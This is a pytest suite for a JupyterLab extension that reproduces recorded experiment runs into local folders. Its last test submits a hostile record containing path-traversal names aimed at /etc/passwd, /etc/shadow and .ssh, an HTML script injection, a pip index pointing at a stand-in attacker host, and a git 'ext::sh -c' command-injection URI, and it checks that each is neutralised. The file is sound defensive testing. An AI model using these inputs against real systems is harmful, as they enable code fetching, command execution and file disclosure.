"""Reproducing from the page: looked at, confirmed once, made or left as if nothing had been."""

from __future__ import annotations

import asyncio
import json
import logging
import os
import shutil
import tempfile
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from tornado.httpclient import HTTPClientError

from sm_onboard import errands
from sm_onboard.errors import OnboardError
from sm_onboard.events import CHANGED
from sm_onboard.experiments import record
from sm_onboard.experiments.reproduce import jobs
from sm_onboard.experiments.reproduce.here import Here
from sm_onboard.experiments.reproduce.jobs import Reproductions
from sm_onboard.experiments.reproduce.shown import Reproduction
from sm_onboard.experiments.service import ExperimentsService, Found
from sm_onboard.experiments.watching import Place
from sm_onboard.pool import Pool
from sm_onboard.repos.contents import contents_base
from tests.experiments.reproduce.lab import ID, Lab, dirty, lab, state_of, whole
from tests.gitserver import Fault, wait_until

RUN = f"store.{ID}"


@pytest.fixture
def here(tmp_path: Path) -> Iterator[Lab]:
    with lab(tmp_path) as made:
        yield made


class Page:
    """What a page asks of the server, and what is left on the disk."""

    def __init__(self, here: Lab, temporary: Path, root: Path, root_dir: Path) -> None:
        self.lab, self.temporary, self.root = here, temporary, root
        self.told: list[str] = []
        self.now = 0.0
        self.reproductions = Reproductions(
            self.find,
            self.machine,
            contents=lambda folder: contents_base(folder, root_dir),
            tell=self.told.append,
            log=logging.getLogger(__name__),
            growing=lambda: self.now,
        )

    def find(self, id: str) -> Found:
        place, _, own = id.partition(".")
        store = self.lab.store
        return Found(Place(place, "files", "This machine", "", lambda: store), store, own, None)

    def machine(self, **more: Any) -> Here:
        return self.lab.machine(self.root, **more)

    def until(self, id: str, *states: str) -> Reproduction:
        wait_until(lambda: self.reproductions.get(id).state in states, 20)
        return self.reproductions.get(id)

    def planned(self) -> Reproduction:
        id = self.reproductions.begin(RUN).id
        return self.until(id, "planned", "failed")

    def left(self) -> list[str]:
        below = self.root / "reproduced"
        return os.listdir(self.temporary) + (os.listdir(below) if below.exists() else [])


@pytest.fixture
def page(here: Lab, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Page]:
    temporary = tmp_path / "temporary"
    temporary.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(temporary))
    made = Page(here, temporary, here.person.root, here.person.root)
    yield made
    made.reproductions.close()
    assert os.listdir(temporary) == []


def refused(call: Any, *args: Any) -> str:
    with pytest.raises(OnboardError) as told:
        call(*args)
    return told.value.code


def test_looked_at_confirmed_once_and_made(here: Lab, page: Page) -> None:
    dirty(here.person)
    files = here.record(environment="numpy==2.0.0\n", tags={record.PYTHON: "3.12.11"})
    before, status = state_of(here.person.clone), here.person.status()
    shown = page.planned()
    plan = shown.plan
    assert plan
    assert (plan.possible, plan.folder) == (True, "reproduced/eager-heron-312")
    assert {x.part: x.state for x in plan.parts}["environment"] == "differs"
    assert plan.packages[0].then == "2.0.0"
    assert "a.txt" in plan.files
    assert not (here.person.root / "reproduced").exists()
    begun = page.reproductions.make(shown.id, shown.looked)
    assert begun.state == "making"
    made = page.until(shown.id, "made", "failed").made
    assert made, page.reproductions.get(shown.id)
    assert whole(Path(made.place)) == files
    assert made.contents == "reproduced/eager-heron-312/nb/train.ipynb"
    assert made.why == ""
    assert Path(made.environment).read_text() == "numpy==2.0.0\n"
    assert made.install.startswith(f"python3.12 -m venv {made.place}-venv && ")
    assert made.install == plan.install
    assert made.environment in made.install
    assert set(page.told) == {f"reproductions/{shown.id}"}
    # Confirmed once, made once; what is there is shown before it is confirmed.
    assert refused(page.reproductions.make, shown.id, 1) == "experiments.not_planned"
    again = page.planned().plan
    assert again
    assert again.folder == "reproduced/eager-heron-312-2"
    assert os.listdir(here.person.root / "reproduced") == ["eager-heron-312"]
    assert (state_of(here.person.clone), here.person.status()) == (before, status)
    # What was made stays when it is forgotten.
    assert page.reproductions.drop(shown.id).state == "made"
    assert whole(Path(made.place)) == files


def test_two_confirmations_at_once_make_one(here: Lab, page: Page) -> None:
    here.record()
    shown = page.planned()
    said: list[str] = []

    def confirm() -> None:
        try:
            said.append(page.reproductions.make(shown.id, shown.looked).state)
        except OnboardError as error:
            said.append(error.code)

    threads = [threading.Thread(target=confirm) for _ in range(6)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(said) == ["experiments.not_planned"] * 5 + ["making"]
    page.until(shown.id, "made")
    assert page.left() == ["eager-heron-312"]


def test_a_notebook_that_jupyterlab_cannot_open_is_told_by_its_path(
    here: Lab, page: Page, tmp_path: Path
) -> None:
    here.record()
    elsewhere = Page(here, page.temporary, here.person.root, tmp_path / "home")
    shown = elsewhere.planned()
    elsewhere.reproductions.make(shown.id, shown.looked)
    made = elsewhere.until(shown.id, "made").made
    assert made
    assert (made.contents, made.folder_contents) == ("", "")
    assert made.why == f"{made.place} is outside the folder that JupyterLab shows."
    (tmp_path / "home" / "repositories").symlink_to(here.person.root)
    shown = elsewhere.planned()
    elsewhere.reproductions.make(shown.id, shown.looked)
    made = elsewhere.until(shown.id, "made").made
    assert made
    assert made.contents == "repositories/reproduced/eager-heron-312-2/nb/train.ipynb"


def test_what_changed_since_it_was_shown_is_shown_again(here: Lab, page: Page) -> None:
    here.record()
    shown = page.planned()
    assert refused(page.reproductions.make, shown.id, shown.looked + 1) == "experiments.plan_old"
    page.now += 1000
    here.record(environment="numpy==2.0.0\n")
    page.reproductions.make(shown.id, shown.looked)
    wait_until(lambda: page.reproductions.get(shown.id).looked == 2)
    again = page.until(shown.id, "planned")
    assert again.problem
    assert again.problem.code == "experiments.plan_old"
    assert again.plan
    assert again.plan.packages[0].name == "numpy"
    assert not (here.person.root / "reproduced").exists()
    page.reproductions.make(shown.id, again.looked)
    assert page.until(shown.id, "made").problem is None


def test_an_old_plan_that_still_holds_is_carried_out(here: Lab, page: Page) -> None:
    files = here.record()
    shown = page.planned()
    page.now += 1000
    page.reproductions.make(shown.id, shown.looked)
    made = page.until(shown.id, "made", "planned", "failed").made
    assert made
    assert whole(Path(made.place)) == files


def test_the_clone_it_would_come_from_is_gone(here: Lab, page: Page) -> None:
    files = here.record()
    shown = page.planned()
    shutil.rmtree(here.person.clone)
    page.reproductions.make(shown.id, shown.looked)
    again = page.until(shown.id, "planned")
    assert again.plan
    assert "comes from" in again.plan.parts[0].detail
    page.reproductions.make(shown.id, again.looked)
    made = page.until(shown.id, "made", "failed").made
    assert made
    assert whole(Path(made.place)) == files


def test_cancelled_while_it_is_cloned_leaves_nothing(here: Lab, page: Page) -> None:
    here.record()
    page.root = here.folder / "colleague"
    shown = page.planned()
    here.person.server.faults["churn"] = Fault.stall(after=200)
    packs = here.person.server.counts["churn"].packs
    page.reproductions.make(shown.id, shown.looked)
    wait_until(lambda: here.person.server.counts["churn"].packs > packs)
    doing = page.reproductions.get(shown.id).doing
    assert doing == f"Getting the commit from {here.person.server.url('churn')[7:]}."
    assert page.reproductions.drop(shown.id).state == "making"
    assert page.until(shown.id, "cancelled", "failed").state == "cancelled"
    assert page.left() == []


def test_cancelled_while_it_looks(here: Lab, page: Page) -> None:
    here.record()
    goes_on = threading.Event()
    read = here.store.read
    here.store.read = lambda *args: (goes_on.wait(20), read(*args))[1]  # type: ignore[method-assign]
    shown = page.reproductions.begin(RUN)
    wait_until(lambda: "This machine" in page.reproductions.get(shown.id).doing)
    assert page.reproductions.drop(shown.id).state == "cancelled"
    goes_on.set()
    wait_until(lambda: page.left() == [])
    assert page.reproductions.get(shown.id).plan is None


def test_a_server_that_stops_leaves_nothing(here: Lab, page: Page) -> None:
    here.record()
    page.root = here.folder / "colleague"
    waiting, shown = page.planned(), page.planned()
    here.person.server.faults["churn"] = Fault.stall(after=200)
    packs = here.person.server.counts["churn"].packs
    page.reproductions.make(shown.id, shown.looked)
    wait_until(lambda: here.person.server.counts["churn"].packs > packs)
    page.reproductions.close()
    assert page.left() == []
    assert page.reproductions.get(shown.id).state == "cancelled"
    assert refused(page.reproductions.make, waiting.id, 1) == "http.stopping"


def test_few_at_once_and_few_remembered(here: Lab, page: Page) -> None:
    here.record()
    first = page.planned()
    for _ in range(jobs._AT_ONCE):  # a plan that nobody confirms makes room
        page.planned()
    assert page.reproductions.get(first.id).state == "cancelled"
    assert len(os.listdir(page.temporary)) == jobs._AT_ONCE
    goes_on = threading.Event()
    read = here.store.read
    here.store.read = lambda *args: (goes_on.wait(20), read(*args))[1]  # type: ignore[method-assign]
    begun = [page.reproductions.begin(RUN) for _ in range(jobs._AT_ONCE)]
    assert refused(page.reproductions.begin, RUN) == "experiments.reproducing_many"
    goes_on.set()
    for shown in begun:
        page.until(shown.id, "planned")
    for _ in range(2 * errands.REMEMBERED):
        page.reproductions.drop(page.reproductions.begin(RUN).id)
        wait_until(lambda: not any(job.working for job in page.reproductions._all._all.values()))
    assert len(page.reproductions._all._all) <= errands.REMEMBERED + jobs._AT_ONCE


def test_what_is_not_known(here: Lab, page: Page) -> None:
    for call in (page.reproductions.get, page.reproductions.drop):
        assert refused(call, "../../etc") == "experiments.reproduction_unknown"
    assert refused(page.reproductions.make, "x", 1) == "experiments.reproduction_unknown"
    assert refused(page.reproductions.begin, "x" * 100_000) == "experiments.run_unknown"
    failed = page.until(page.reproductions.begin("store.none").id, "failed")
    assert failed.problem
    assert failed.problem.code == "experiments.run_unknown"


def test_only_what_is_kept_is_promised(here: Lab, page: Page) -> None:
    tags = {
        record.REPOSITORY: here.person.server.url("churn"),
        record.COMMIT: here.person.head(),
        record.CHANGED: "3",
    }
    here.record(take=False, tags=tags)
    plan = page.planned().plan
    assert plan
    assert (plan.possible, plan.whole) == (True, False)
    here.record(take=False, tags={**tags, record.CHANGED: "0"})
    plan = page.planned().plan
    assert plan
    assert plan.whole


def test_a_bug_is_a_sentence(here: Lab, page: Page, monkeypatch: pytest.MonkeyPatch) -> None:
    here.record()
    monkeypatch.setattr(jobs, "plan", lambda *_: 1 / 0)
    problem = page.planned().problem
    assert problem
    assert problem.code == "internal"
    assert page.left() == []


def test_it_ends_with_the_room(here: Lab, page: Page) -> None:
    pool = Pool(1)
    room = ExperimentsService(lambda _: [], pool=pool, server="this-run")
    assert room.lasting(Reproductions, lambda: page.reproductions) is page.reproductions
    assert room.lasting(Reproductions, lambda: pytest.fail("again")) is page.reproductions
    here.record()
    waiting = page.planned()
    room.close()
    pool.close(5)
    assert page.left() == []
    assert refused(page.reproductions.make, waiting.id, 1) == "http.stopping"


@pytest.fixture
def sm_config(here: Lab) -> dict[str, Any]:
    return {"root": str(here.person.root), "update_on_start": False}


async def test_a_hostile_record_over_http(
    here: Lab, jp_serverapp: Any, jp_fetch: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Names that lead out, markup, an address with a command in it: a folder and texts."""
    here.record(
        name="../../.ssh/<img src=x onerror=alert(1)>\x1b[2J",
        tags={record.NOTEBOOK: "../../../etc/passwd", record.SEED: "<b>7</b>"},
        environment="numpy==1\n--index-url=http://evil.example\n-e git+https://evil.example/x\n",
        facts={"data": [{"uri": "../../../../etc/shadow"}, {"uri": "ext::sh -c id"}]},
    )
    extension = next(iter(jp_serverapp.extension_manager.extension_apps["sm_onboard"]))
    page = Page(here, here.folder, here.person.root, here.person.root)
    monkeypatch.setattr(extension.rooms.experiments, "find", page.find)
    heard: list[str] = []

    async def listen(logger: Any, schema_id: str, data: dict[str, Any]) -> None:
        heard.append(data["id"])

    jp_serverapp.event_logger.add_listener(schema_id=CHANGED, listener=listen)

    async def ask(method: str, *path: str, body: Any = None) -> tuple[int, Any]:
        data = None if body is None else json.dumps(body)
        where = ("sm-onboard", "experiments", "reproductions", *path)
        try:
            got = await jp_fetch(*where, method=method, body=data, allow_nonstandard_methods=True)
        except HTTPClientError as error:
            return error.code, json.loads(error.response.body)  # type: ignore[union-attr]
        return got.code, json.loads(got.body)

    async def until(id: str, *states: str) -> Any:
        for _ in range(400):
            _, shown = await ask("GET", id)
            if shown["state"] in states:
                return shown
            await asyncio.sleep(0.05)
        raise AssertionError(shown)

    status, begun = await ask("POST", body={"run": RUN})
    assert (status, begun["state"]) == (202, "looking")
    shown = await until(begun["id"], "planned", "failed")
    assert shown["plan"]["folder"] == "reproduced/ssh-img-src-x-onerror-alert-1-2J"
    assert "\x1b" not in json.dumps(shown, ensure_ascii=False)
    assert shown["plan"]["notebook"] == ""
    status, _ = await ask("POST", begun["id"], "make", body={"looked": 1})
    assert status == 202
    shown = await until(begun["id"], "made", "failed")
    made = Path(shown["made"]["place"])
    assert made.parent == here.person.root / "reproduced"
    assert shown["made"]["why"] == "Its notebook is not among the files."
    assert Path(shown["made"]["environment"]).read_text() == "numpy==1\n"
    assert f"reproductions/{begun['id']}" in heard
    assert (await ask("POST", begun["id"], "make", body={"looked": 1}))[0] == 409
    assert (await ask("GET", "nothing"))[0] == 404
    assert (await ask("DELETE", "nothing"))[0] == 404
    assert (await ask("DELETE", begun["id"]))[1]["state"] == "made"
    assert made.is_dir()
